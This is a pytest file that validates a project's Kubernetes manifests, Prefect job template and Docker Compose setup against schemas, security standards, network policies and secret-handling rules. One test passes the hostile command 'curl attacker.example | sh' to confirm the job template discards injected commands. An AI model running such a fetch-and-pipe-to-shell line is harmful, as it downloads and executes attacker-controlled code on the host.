"""Images, compose and Kubernetes files against their schemas, offline. No container is started."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from string import Template
from typing import Any

import pytest
import yaml

from tests.builders import make_machine

ROOT = Path(__file__).resolve().parents[2]
INFRA = ROOT / "infra"
OVERLAYS = ("gpu", "model", "cpu-smoke")
KUSTOMIZATIONS = sorted(path.parent for path in (INFRA / "kubernetes").rglob("kustomization.yaml"))
BIN = Path(sys.executable).parent

needs_kubectl = pytest.mark.skipif(shutil.which("kubectl") is None, reason="no kubectl on this machine")


def validate(manifest: Path) -> subprocess.CompletedProcess[str]:
    command = [BIN / "kubernetes-validate", "--strict", manifest]
    return subprocess.run(command, capture_output=True, text=True, check=False)


@cache
def build(folder: Path) -> list[dict[str, Any]]:
    text = subprocess.run(["kubectl", "kustomize", folder], capture_output=True, text=True, check=True).stdout
    return list(yaml.safe_load_all(text))


@needs_kubectl
@pytest.mark.parametrize("folder", KUSTOMIZATIONS, ids=lambda path: path.name)
def test_kustomization_is_valid(folder, tmp_path):
    manifest = tmp_path / "all.yaml"
    manifest.write_text(yaml.safe_dump_all(build(folder)))
    result = validate(manifest)
    assert result.returncode == 0, result.stdout + result.stderr


def test_manifest_validator_finds_a_misspelled_field(tmp_path):
    container = {"name": "a", "image": "a", "readinesProbe": {}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"containers": [container]}}
    (tmp_path / "pod.yaml").write_text(yaml.safe_dump(pod))
    assert validate(tmp_path / "pod.yaml").returncode != 0


@needs_kubectl
def test_references_between_manifests_resolve():
    documents = build(INFRA / "kubernetes/overlays/gpu")
    names = {(each["kind"], each["metadata"]["name"]) for each in documents}
    text = json.dumps(documents)
    for claim in re.findall(r'"claimName": "([^"]+)"', text):
        assert ("PersistentVolumeClaim", claim) in names
    for reference in re.findall(r'"configMapRef": \{"name": "([^"]+)"', text):
        assert ("ConfigMap", reference) in names
    hosts = set(re.findall(r"(?:@|//)([a-z-]+):\d+", text)) - {"localhost"}
    assert hosts <= {name for kind, name in names if kind == "Service"}


def render(template: dict[str, Any], **arguments: Any) -> dict[str, Any]:
    """Return the job that Prefect's worker makes of a template. Its variables have their defaults, except the
    `arguments`."""
    from prefect.utilities.templating import apply_values

    properties = template["variables"]["properties"]
    values = {name: each["default"] for name, each in properties.items() if "default" in each} | arguments
    return apply_values(template["job_configuration"], values, remove_notset=True)


@pytest.mark.parametrize("gpus", [0, 8])
def test_rendered_job_is_valid(tmp_path, gpus):
    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    job = render(template, name="run", gpus=gpus)["job_manifest"]
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == gpus
    assert container["args"] == ["prefect", "flow-run", "execute"]
    assert job["spec"]["parallelism"] == 1 and "parallelism" not in job["spec"]["template"]["spec"]
    job["metadata"]["name"] = "run"
    (tmp_path / "job.yaml").write_text(yaml.safe_dump(job))
    result = validate(tmp_path / "job.yaml")
    assert result.returncode == 0, result.stdout + result.stderr


def test_every_job_template_variable_is_used_and_defined():
    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    used = set(re.findall(r"\{\{ (\w+) \}\}", json.dumps(template["job_configuration"])))
    assert used == set(template["variables"]["properties"])


def test_cluster_run_cannot_bring_a_command():
    import jsonschema

    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    rendered = render(template, name="run", command="curl attacker.example | sh", args=["sh"])
    assert "attacker" not in json.dumps(rendered) and "command" not in rendered
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"command": "id"}, template["variables"])


def test_every_recipe_fits_the_job_template():
    import jsonschema

    from armature.components.configuration import load_recipe, recipe_names
    from armature.deployments import deployment

    filled_in = {"IMAGE": "a", "STANDALONE_IMAGE": "b", "NAMESPACE": "armature"}
    template = json.loads(Template((INFRA / "kubernetes/base/job-template.json").read_text()).substitute(filled_in))
    variables_of = {name: deployment(load_recipe(name), template)["job_variables"] for name in recipe_names()}
    for each in variables_of.values():
        jsonschema.validate(each, template["variables"])
    machine = load_recipe("train-vlm/molmo2").sections["machine"]
    variables = variables_of["train-vlm/molmo2"]
    assert max(*machine.trainer.gpus, *(gpu for gpus in machine.servers.gpus for gpu in gpus)) + 1 == variables["gpus"]
    expected = {"image": "b", "gpus": 0, "cpus": "2", "memory": "16Gi"}
    assert variables_of["train-vlm/colors"] == expected


def pods() -> Iterator[tuple[str, dict[str, str], dict[str, Any]]]:
    """Name, labels and specification of every pod that is started, the run's included."""
    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
    documents = [each for name in OVERLAYS for each in build(INFRA / "kubernetes/overlays" / name)]
    run = render(template, name="run")["job_manifest"]
    for document in [*documents, {**run, "metadata": {"name": "run"}}]:
        if pod := document.get("spec", {}).get("template"):
            yield document["metadata"]["name"], pod["metadata"]["labels"], pod["spec"]


@needs_kubectl
def test_every_pod_meets_the_restricted_security_standard():
    names = [name for name, _, pod in pods() if not restricted(pod)]
    assert not names
    assert {name for name, _, pod in pods() if pod["automountServiceAccountToken"]} == {"worker"}
    assert len({pod["serviceAccountName"] for _, _, pod in pods()}) == len(list(pods())) == 9


def restricted(pod: dict[str, Any]) -> bool:
    """Pod Security Standards, profile restricted; besides a read-only root, and limited memory."""
    context = pod["securityContext"]
    kinds = {kind for volume in pod.get("volumes", []) for kind in volume if kind != "name"}
    return (
        context["runAsNonRoot"]
        and context["seccompProfile"] == {"type": "RuntimeDefault"}
        and kinds <= {"configMap", "emptyDir", "persistentVolumeClaim", "secret"}
        and not {"hostNetwork", "hostPID", "hostIPC"} & pod.keys()
        and all(
            each["securityContext"]
            == {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True}
            and {"requests", "limits"} <= each["resources"].keys()
            and "memory" in each["resources"]["limits"]
            for each in pod["containers"]
        )
    )


@needs_kubectl
def test_network_policies_allow_only_needed_traffic():
    documents = [each for name in OVERLAYS for each in build(INFRA / "kubernetes/overlays" / name)]
    policies = [each["spec"] for each in documents if each["kind"] == "NetworkPolicy"]
    labels = {name: labels for name, labels, _ in pods()}
    ports = {"postgres": 5432, "prefect-server": 4200, "mlflow": 5000, "vllm": 8000, "run": 50000}
    through = {
        (source, target)
        for source in labels
        for target in ports
        if lets_through(policies, "Egress", labels[source], labels[target], ports[target])
        and lets_through(policies, "Ingress", labels[target], labels[source], ports[target])
    }
    to_prefect = {(source, "prefect-server") for source in ("worker", "provision", "run")}
    to_postgres = {(source, "postgres") for source in ("prefect-server", "mlflow")}
    of_runs = {("run", "mlflow"), ("run", "vllm"), ("vllm", "run")}
    assert through == to_prefect | to_postgres | of_runs


def lets_through(policies: list[Any], way: str, own: dict[str, str], other: dict[str, str], port: int) -> bool:
    """Return True if a pod's network policies allow traffic to (`way` Egress) or from (Ingress) another pod of the same
    namespace. `own` and `other` are the labels of the pods."""
    of_pod = [each for each in policies if way in each["policyTypes"] and selects(each["podSelector"], own)]
    peers = {"Egress": "to", "Ingress": "from"}[way]
    return not of_pod or any(
        port in [each["port"] for each in rule.get("ports", [{"port": port}])]
        and any(
            "namespaceSelector" not in peer and selects(peer["podSelector"], other)
            for peer in rule.get(peers, [{"podSelector": {}}])
        )
        for each in of_pod
        for rule in each.get(way.lower(), [])
    )


def selects(selector: dict[str, Any], labels: dict[str, str]) -> bool:
    expressions = selector.get("matchExpressions", [])
    assert {each["operator"] for each in expressions} <= {"In"}
    return selector.get("matchLabels", {}).items() <= labels.items() and all(
        labels.get(each["key"]) in each["values"] for each in expressions
    )


@needs_kubectl
def test_prometheus_reaches_only_metrics(tmp_path):
    shutil.copytree(INFRA / "kubernetes", tmp_path / "kubernetes")
    overlay = tmp_path / "kubernetes/overlays/gpu"
    file = overlay / "kustomization.yaml"
    file.write_text(file.read_text().replace("components:\n", "components:\n  - ../../metrics\n"))
    before = {json.dumps(each, sort_keys=True) for each in build(INFRA / "kubernetes/overlays/gpu")}
    new = [each for each in build(overlay) if json.dumps(each, sort_keys=True) not in before]
    assert all(each["kind"] == "NetworkPolicy" and each["metadata"]["namespace"] == "armature" for each in new)
    ports = dict[str, int]()
    for each in new:
        (rule,) = each["spec"]["ingress"]
        assert each["spec"]["policyTypes"] == ["Ingress"] and rule["from"] == [
            {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}
        ]
        ports[each["spec"]["podSelector"]["matchLabels"]["app.kubernetes.io/component"]] = rule["ports"][0]["port"]
    offered = {
        labels["app.kubernetes.io/component"]: pod["containers"][0]["ports"][0]
        for name, labels, pod in pods()
        if name in ("run", "vllm")
    }
    assert ports == {name: port["containerPort"] for name, port in offered.items()}
    runs, servers = yaml.safe_load((INFRA / "kubernetes/metrics/scrape.yaml").read_text())["scrape_configs"]
    saved = [[rule["regex"] for rule in each["relabel_configs"] if "regex" in rule] for each in (runs, servers)]
    assert saved == [["Running", offered["run"]["name"]], ["Running", "vllm"]]
    assert servers["authorization"]["credentials_file"].endswith("/VLLM_API_KEY") and "authorization" not in runs


@needs_kubectl
def test_image_names_are_in_one_file(tmp_path):
    shutil.copytree(INFRA / "kubernetes", tmp_path / "kubernetes")
    file = tmp_path / "kubernetes/images/kustomization.yaml"
    digest = "sha256:" + "0" * 64
    named = re.sub(
        "name: (.*)\n *newTag: .*",
        rf"name: \1\n    newName: registry.example/\1\n    digest: {digest}",
        file.read_text(),
    )
    file.write_text(named)
    documents = [each for name in OVERLAYS for each in build(tmp_path / "kubernetes/overlays" / name)]
    images = re.findall(r'"image": "([^"]+)"', json.dumps(documents))
    names = ("armature", "armature-standalone", "armature-vllm", "postgres")
    assert len(images) == 10 and set(images) == {f"registry.example/{name}@{digest}" for name in names}
    (provision,) = [each for each in documents if each["metadata"]["name"] == "provision" and each["kind"] == "Job"]
    variables = provision["spec"]["template"]["spec"]["containers"][0]["env"]
    for variable, name in (("IMAGE", "armature"), ("STANDALONE_IMAGE", "armature-standalone")):
        assert {"name": variable, "value": f"registry.example/{name}@{digest}"} in variables


def compose() -> dict[str, Any]:
    return yaml.safe_load((INFRA / "compose/compose.yaml").read_text())


def test_compose_file_is_valid():
    command = [BIN / "check-jsonschema", "--builtin-schema", "vendor.compose-spec", INFRA / "compose/compose.yaml"]
    result = subprocess.run(command, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_compose_services_have_few_rights_and_limited_memory():
    for name, service in compose()["services"].items():
        assert service["cap_drop"] == ["ALL"] and service["security_opt"] == ["no-new-privileges:true"], name
        assert service["read_only"] is True and service["pids_limit"] and service["mem_limit"], name


def test_compose_has_a_worker_for_every_pool():
    from armature.deployments import POOLS

    workers = [each for each in compose()["services"].values() if each.get("command", [])[:2] == ["prefect", "worker"]]
    served = {each["command"][each["command"].index("--pool") + 1]: each for each in workers}
    assert served.keys() == set(POOLS) and "profiles" not in served["cpu"] and "deploy" not in served["cpu"]
    for pool in ("vllm-gpu", "train-gpu"):
        (device,) = served[pool]["deploy"]["resources"]["reservations"]["devices"]
        assert device["capabilities"] == ["gpu"] and device["count"] == "all"
        assert served[pool]["profiles"] == ["gpu"] and served[pool]["build"]["args"]["TORCH_BACKEND"] == "cuda"
        assert served[pool]["environment"] == served["cpu"]["environment"]


def test_compose_passes_every_server_variable():
    read = set(re.findall(r"\$\{?([A-Z_]+)", (INFRA / "images/serve.sh").read_text()))
    assert read == compose()["services"]["vllm"]["environment"].keys()
    dockerfile = (INFRA / "images/Dockerfile").read_text()
    targets, arguments = (set(re.findall(each, dockerfile, re.MULTILINE)) for each in (r"AS ([\w-]+)$", r"^ARG (\w+)"))
    builds = [each["build"] for each in compose()["services"].values() if "build" in each]
    images = {each["image"]: each["build"] for each in compose()["services"].values() if "build" in each}
    assert all(images[each["image"]] == each["build"] for each in compose()["services"].values() if "build" in each)
    for each in builds:
        assert each["target"] in targets and {"COMMIT"} <= each["args"].keys() <= arguments


def test_compose_uses_object_store_root_only_for_management():
    services = compose()["services"]
    assert {name for name, each in services.items() if "MINIO_ROOT" in json.dumps(each)} == {"minio", "buckets"}
    made = re.search(r"mc mb --ignore-existing (.*)", services["buckets"]["command"][0])
    buckets = {name.removeprefix("store/") for name in made[1].split()} if made else set()
    named = set()
    for statement in json.loads((INFRA / "compose/buckets.json").read_text())["Statement"]:
        assert statement["Effect"] == "Allow" and not [each for each in statement["Action"] if "*" in each]
        named |= {each.removeprefix("arn:aws:s3:::").removesuffix("/*") for each in statement["Resource"]}
    assert named == buckets == {"mlflow", "artifacts"}


def test_compose_dependencies_can_become_healthy():
    services = compose()["services"]
    for name, service in services.items():
        for other, condition in service.get("depends_on", {}).items():
            if condition["condition"] == "service_healthy":
                assert "healthcheck" in services[other], f"{name} waits for the health of {other}, which has no check"
            else:
                assert services[other].get("restart") in (None, "on-failure"), f"{other} never completes"


def test_compose_names_volumes_variables_and_files_that_exist():
    text, document = (INFRA / "compose/compose.yaml").read_text(), compose()
    offered = set(re.findall(r"^([A-Z_]+)=", (INFRA / "compose/example.env").read_text(), re.MULTILINE))
    assert set(re.findall(r"(?<!\$)\$\{([A-Z_]+)", text)) <= offered | {"TAG"}
    for service in document["services"].values():
        for volume in service.get("volumes", []):
            source = volume.split(":")[0]
            assert source in document["volumes"] or (INFRA / "compose" / source).exists()
        if build_ := service.get("build"):
            assert (ROOT / build_["dockerfile"]).is_file()


def test_compose_publishes_loopback_ports_only():
    ports = [port for service in compose()["services"].values() for port in service.get("ports", [])]
    assert ports and all(port.startswith("127.0.0.1:") for port in ports)


SECRET = re.compile(r"(PASSWORD|API_KEY|ACCESS_KEY|(?<!STRING_)SECRET_KEY|AUTH_STRING)$")


def shared(name: str) -> dict[str, str]:
    """Return the environment variables in the file `name`.env. Both Compose and Kubernetes give them to a server or to
    its clients."""
    return dict(re.findall(r"^(\w+)=(.*)$", (INFRA / f"kubernetes/base/{name}.env").read_text(), re.MULTILINE))


def server_of(name: str) -> dict[str, Any]:
    """Return the command and the secret variables of a server, as Compose and as Kubernetes start it.

    Check that both get the other variables from the file that `shared` reads.
    """
    on_cluster = (INFRA / f"kubernetes/base/{name}.yaml").read_text()
    (pod,) = [each for each in yaml.safe_load_all(on_cluster) if each["kind"] == "Deployment"]
    (container,) = pod["spec"]["template"]["spec"]["containers"]
    assert container["envFrom"] == [{"configMapRef": {"name": name}}]
    variables = {each["name"]: each["valueFrom"] for each in container["env"] if "valueFrom" in each}
    service = compose()["services"][name]
    assert service["env_file"] == f"../kubernetes/base/{name}.env"
    return {"compose": (service["command"], service["environment"]), "kubernetes": (container["args"], variables)}


@pytest.mark.parametrize("where", ["compose", "kubernetes"])
def test_prefect_needs_password_and_known_host_name(where):
    command, variables = server_of("prefect-server")[where]
    assert "armature.prefect_server:create_app" in command
    assert variables["PREFECT_SERVER_API_AUTH_STRING"]
    for name in ("ARMATURE_ALLOWED_HOSTS", "PREFECT_SERVER_CORS_ALLOWED_ORIGINS"):
        assert shared("prefect-server")[name] and "*" not in shared("prefect-server")[name]


@pytest.mark.parametrize("where", ["compose", "kubernetes"])
def test_mlflow_needs_its_password(where):
    command, variables = server_of("mlflow")[where]
    assert "--app-name=basic-auth" in command and variables["MLFLOW_AUTH_ADMIN_PASSWORD"]
    assert shared("mlflow")["MLFLOW_AUTH_ADMIN_USERNAME"] == shared("client")["MLFLOW_TRACKING_USERNAME"]


def test_no_password_in_command_lines_or_addresses():
    servers = [server_of(name)[where] for name in ("mlflow", "prefect-server") for where in ("compose", "kubernetes")]
    commands = [json.dumps(each.get("command", "")) for each in compose()["services"].values()]
    assert not [each for each in (*commands, *(json.dumps(command) for command, _ in servers)) if SECRET.search(each)]
    assert all(variables["PGPASSWORD"] for _, variables in servers)
    for name in ("client", "mlflow", "prefect-server"):
        assert not [each for each in shared(name) if SECRET.search(each)]


def test_compose_takes_secrets_from_its_environment():
    for name, service in compose()["services"].items():
        for variable, value in service.get("environment", {}).items():
            assert not SECRET.search(variable) or value.startswith("${"), f"{name}: {variable}"
    for line in (INFRA / "compose/example.env").read_text().splitlines():
        variable, _, value = line.partition("=")
        assert not SECRET.search(variable) or not value


@needs_kubectl
def test_manifests_take_secrets_by_reference():
    for document in build(INFRA / "kubernetes/overlays/gpu"):
        assert document["kind"] != "Secret"
        pod = document.get("spec", {}).get("template", {}).get("spec", {})
        for container in pod.get("containers", []):
            for variable in container.get("env", []):
                if SECRET.search(variable["name"]):
                    assert "secretKeyRef" in variable["valueFrom"], f"{document['metadata']['name']}: {variable}"


def test_cluster_environment_has_every_database_driver():
    from sqlalchemy import make_url

    files = [*INFRA.rglob("*.yaml"), *INFRA.rglob("*.env"), *(ROOT / "docs").rglob("*.md")]
    named = [url for file in files for url in re.findall(r"postgresql[+\w]*://\S+@\w+:\d+/\w+", file.read_text())]
    drivers = {make_url(url).get_dialect().driver for url in named}
    pinned = (ROOT / "requirements/constraints.txt").read_text() + (ROOT / "requirements/cluster.txt").read_text()
    assert drivers == {"asyncpg", "psycopg2"} and len(named) == 2
    assert re.search(r"^asyncpg==", pinned, re.MULTILINE) and re.search(r"^psycopg2-binary==", pinned, re.MULTILINE)


def test_images_copy_files_that_exist():
    copied = re.findall(r"^COPY (?!--from|\. )(.+) \S+$", (INFRA / "images/Dockerfile").read_text(), re.MULTILINE)
    for source in " ".join(copied).split():
        assert list(ROOT.glob(source)), f"the Dockerfile copies {source}"


@needs_kubectl
def test_servers_read_the_checkpoint_folder_of_the_job():
    containers = {name: (pod["containers"][0], pod["volumes"]) for name, _, pod in pods()}
    (server, of_server), (job, of_job) = containers["vllm"], containers["model"]
    (model,) = [each["value"] for each in server["env"] if each["name"] == "MODEL"]
    assert model == "/opt/armature/" + job["args"][job["args"].index("--out") + 1]
    mounts = [[each["mountPath"] for each in some["volumeMounts"] if each["name"] == "store"] for some in (server, job)]
    assert mounts[0] == mounts[1] == ["/opt/armature/.armature"] and of_server[0] == of_job[0]


def test_server_without_checkpoint_fails_with_a_message(tmp_path: Path):
    environment = {"PATH": "/usr/bin:/bin", "MODEL": str(tmp_path), "VLLM_API_KEY": "key"}
    command = ["sh", INFRA / "images/serve.sh"]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 1 and f"no checkpoint is in {tmp_path}" in done.stderr


@pytest.mark.parametrize("transfer", ["file", "delta", "nccl"])
def test_served_model_settings_equal_the_pool(tmp_path: Path, transfer: str):
    """A joined server must be started as the pool starts its own, or importance ratios are biased."""
    from armature.components.inference.command import server_command
    from armature.components.inference.settings import ServerSettings

    settings = ServerSettings(max_model_len=64, max_images_per_prompt=1, dtype="float32")
    (tmp_path / "config.json").write_text("{}")
    ours = server_command(tmp_path, settings, make_machine(weight_transfer=transfer), port=8000, gpus=(0,))
    python = tmp_path / "python3"
    python.write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    python.chmod(0o755)
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin", "MODEL": str(tmp_path), "VLLM_API_KEY": "key"}
    chosen = {"MAX_MODEL_LEN": "64", "MAX_IMAGES": "1", "DTYPE": "float32", "WEIGHT_TRANSFER": transfer}
    command = ["sh", INFRA / "images/serve.sh"]
    theirs = subprocess.check_output(command, env=environment | chosen, text=True).splitlines()
    assert given(theirs) | {"--host": "127.0.0.1"} == {
        name: value
        for name, value in given(ours[1:]).items()
        if name not in ("--disable-uvicorn-access-log", "--disable-log-stats", "--uvicorn-log-level")
    }


def given(command: list[str]) -> dict[str, str | None]:
    """Return the options of a command with their values; None for an option without a value."""
    following = [*command[1:], None]
    return {
        name: None if value is None or value.startswith("--") else value
        for name, value in zip(command, following, strict=True)
        if name.startswith("--")
    }
